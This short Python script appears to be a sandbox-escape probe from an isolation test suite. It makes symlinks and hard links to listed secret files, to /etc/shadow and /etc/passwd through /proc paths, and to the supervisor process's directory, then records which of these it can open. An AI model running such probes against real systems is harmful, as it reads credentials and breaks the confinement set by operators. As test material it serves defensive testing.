"""Reach secrets through links."""
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def call(*numbers):
    """The first of (x86_64, aarch64) numbers that fits, then the arguments; whether the kernel did it."""
    (x86, arm), *given = numbers
    return libc.syscall(arm if os.uname().machine == "aarch64" else x86, *given) >= 0
def works(act, *given):
    try: act(*given)
    except (OSError, ValueError): return False
    return True
def run(info):
    got = []
    for place, path in enumerate([*info["secrets"], "/proc/1/root/etc/passwd", "/proc/self/root/../etc/shadow", "/proc/%d/cwd" % info["supervisor"]]):
        for make in (os.symlink, os.link):
            name = f"{make.__name__}{place}"
            if works(make, path, name) and works(open, name): got.append(path)
    return got
